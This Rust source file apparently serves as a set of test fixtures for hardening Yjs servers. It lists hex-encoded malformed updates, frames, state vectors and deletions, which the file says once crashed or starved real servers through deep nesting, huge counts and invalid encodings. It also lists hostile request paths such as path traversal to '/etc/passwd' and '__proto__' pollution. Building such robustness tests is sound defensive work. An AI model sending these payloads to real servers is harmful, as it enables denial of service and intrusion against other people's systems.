//! The recipes of attacks on the Yjs libraries, each of which once killed, starved or silenced a server of somebody's.

use yrs::encoding::write::Write;

/// Bytes with a name.
pub type Named = (&'static str, Vec<u8>);

/// Attacks that are one update.
pub fn updates() -> Vec<Named> {
    vec![
        ("nested-arrays-129", nested_arrays(129)),
        ("nested-arrays-8000", nested_arrays(8_000)),
        ("nested-maps-129", nested_maps(129)),
        ("nested-json-129", nested_json(129)),
        (
            "second-encoding-bomb",
            unhex("0000010700000100010000000541fec1d72f0180c2d72f0000"),
        ),
        ("clients-1e8", unhex("80c2d72f")),
        ("clients-2e32", unhex("ffffffff0f")),
        ("items-2e32", unhex("01ffffffff0f0700")),
        ("collected-2e32", unhex("0101070000ffffffff0f00")),
        ("skipped-2e32", unhex("010107000affffffff0f00")),
        ("clock-2e32", unhex("010107ffffffff0f04010174017800")),
        ("many-clients", many_clients(400)),
        ("nested-types", nested_types(400)),
        ("nested-types-5000", nested_types(5_000)),
        ("text-not-utf8", unhex("010107000401017403fffec000")),
        ("key-not-utf8", unhex("010107002801017401ff017d0100")),
        ("client-zero", unhex("0101000004010174017800")),
        ("client-2e53", unhex("0101ffffffffffffff0f0004010174017800")),
        ("content-unknown", unhex("010107000b01017400")),
        ("type-unknown", unhex("01010700070101740f00")),
        ("origin-itself", unhex("01010700840700017800")),
        (
            "origins-in-a-circle",
            unhex("010207008407010178840700017800"),
        ),
        ("parent-missing", unhex("0101070004000905017800")),
        (
            "parent-is-text",
            unhex("0102010008010161017d0104000100017800"),
        ),
        (
            "client-twice",
            unhex("0201070004010174017801070004010174017900"),
        ),
        ("subdocuments", subdocuments(200)),
        (
            "surrogate-halves",
            unhex("010107000401017404f09f9880000107010001"),
        ),
    ]
}

/// Attacks that are several updates.
pub fn sequences() -> Vec<(&'static str, Vec<Vec<u8>>)> {
    let silenced = vec![
        unhex("0101070000ffffff7f00"),
        unhex("0101070004010174057265616c2100"),
    ];
    let gaps = (0..60).map(|at| insertion(7, at * 2 + 1)).collect();
    let fork = vec![
        unhex("01010100270101610162027d0100"),
        unhex("0101010004010174046162636400"),
        unhex("000101010001"),
    ];
    let ascending = (0..300).map(|at| insertion(1_000 + at, 0)).collect();
    let then_deleted = vec![nested_types(200), unhex("000107010001")];
    let in_pieces = (0..700).map(nested_piece).collect();
    vec![
        ("silenced-client", silenced),
        ("gaps-that-never-close", gaps),
        ("one-id-two-contents", fork),
        ("ascending-clients", ascending),
        ("nested-types-then-deleted", then_deleted),
        ("nested-types-in-pieces", in_pieces),
    ]
}

/// Attacks that are a frame, but not of an update.
pub fn frames() -> Vec<Named> {
    vec![
        ("state-vector-1e8", unhex("00000480c2d72f")),
        ("awareness-1e8", unhex("010480c2d72f")),
        ("awareness-2e60", unhex("0109808080808080808010")),
        (
            "awareness-last-clock",
            unhex("010b0107ffffffff0f046e756c6c"),
        ),
        ("varint-unending", vec![0x80; 40]),
        ("length-2e53", unhex("0002ffffffffffffff0f00")),
        ("auth", unhex("02000178")),
        ("sync-unknown", unhex("00090100")),
        ("message-unknown", unhex("63")),
        ("empty-steps", unhex("0000010000000100").repeat(40)),
        ("queries", vec![3; 1_025]),
    ]
}

/// Attacks that are a state vector.
pub fn state_vectors() -> Vec<Named> {
    vec![
        ("entries-1e8", unhex("80c2d72f")),
        ("entries-2e32", unhex("ffffffff0f0105")),
        ("client-twice", unhex("0201050103")),
        ("clock-2e32", unhex("0101ffffffff0f")),
        ("client-2e53", unhex("01ffffffffffffff0f05")),
    ]
}

/// Attacks that are deletions.
pub fn deletions() -> Vec<Named> {
    vec![
        ("ranges-2e32", unhex("0101ffffffff0f0001")),
        ("range-overflow", unhex("010101ffffffff07ffffffff0f")),
        ("ranges-overlap", unhex("01010300050203000a")),
        ("client-twice", unhex("020101000101010002")),
        ("range-of-nothing", unhex("0101010500")),
        ("unknown-client", unhex("016301000a")),
    ]
}

/// Odd addresses.
pub const ADDRESSES: [(&str, &str); 14] = [
    ("short", "/my-room"),
    ("full", "/yjs/team/story/1?token=x"),
    ("nothing", ""),
    ("up", "/../../etc/passwd"),
    ("up-escaped", "/%2e%2e/%2e%2e/x"),
    ("nul", "/a%00b"),
    ("newline-and-escape", "/a%0A%1B[31m"),
    ("right-to-left", "/%E2%80%AEabc"),
    ("prototype", "/yjs/__proto__/constructor"),
    ("slash-within", "/yjs/a%2Fb/c"),
    ("not-utf8", "/%C3%28"),
    ("broken-escape", "/100%"),
    ("reserved", "/automerge/w/a"),
    ("stars", "/*/[a-z]"),
];

/// Values within values: `[[[…null…]]]`.
fn nested_arrays(depth: usize) -> Vec<u8> {
    let inner = [[0x75, 1].repeat(depth), vec![0x7e]].concat();
    value(&inner)
}

fn nested_maps(depth: usize) -> Vec<u8> {
    let inner = [[0x76, 1, 1, 0x6b].repeat(depth), vec![0x7e]].concat();
    value(&inner)
}

fn nested_json(depth: usize) -> Vec<u8> {
    let json = "[".repeat(depth) + &"]".repeat(depth);
    let mut update = unhex("010107000201017401");
    update.write_string(&json);
    update.push(0);
    update
}

fn value(any: &[u8]) -> Vec<u8> {
    [&unhex("010107000801017401"), any, &[0]].concat()
}

/// One character by each of many new clients, all at the same place, in one update.
fn many_clients(clients: u32) -> Vec<u8> {
    let mut update = Vec::new();
    update.write_var(clients);
    for client in (0..clients).rev() {
        update.write_var(1_u32);
        update.write_var(1_000 + client);
        update.extend_from_slice(&unhex("00040101740178"));
    }
    update.push(0);
    update
}

fn insertion(client: u32, clock: u32) -> Vec<u8> {
    let mut update = unhex("0101");
    update.write_var(client);
    update.write_var(clock);
    update.extend_from_slice(&unhex("04010174017800"));
    update
}

/// A list that holds a list that holds a list.
fn nested_types(depth: u32) -> Vec<u8> {
    let mut update = vec![1];
    update.write_var(depth);
    update.extend_from_slice(&unhex("07000701017400"));
    for above in 0..depth - 1 {
        update.extend_from_slice(&[7, 0, 7]);
        update.write_var(above);
        update.push(0);
    }
    update.push(0);
    update
}

/// One of the lists that each hold the next.
fn nested_piece(clock: u32) -> Vec<u8> {
    let mut update = vec![1, 1, 7];
    update.write_var(clock);
    match clock.checked_sub(1) {
        None => update.extend_from_slice(&unhex("070101740000")),
        Some(above) => {
            update.extend_from_slice(&[7, 0, 7]);
            update.write_var(above);
            update.extend_from_slice(&[0, 0]);
        }
    }
    update
}

fn subdocuments(count: u32) -> Vec<u8> {
    let mut update = vec![1];
    update.write_var(count);
    update.extend_from_slice(&[7, 0]);
    for _ in 0..count {
        update.extend_from_slice(&unhex("090101740473616d657600"));
    }
    update.push(0);
    update
}

/// The bytes that hexadecimal digits stand for.
///
/// # Panics
/// There are other characters among them.
pub fn unhex(hex: &str) -> Vec<u8> {
    let digit = |digit: u8| {
        char::from(digit)
            .to_digit(16)
            .expect("digits are hexadecimal") as u8
    };
    hex.as_bytes()
        .chunks(2)
        .map(|pair| digit(pair[0]) << 4 | digit(pair[1]))
        .collect()
}
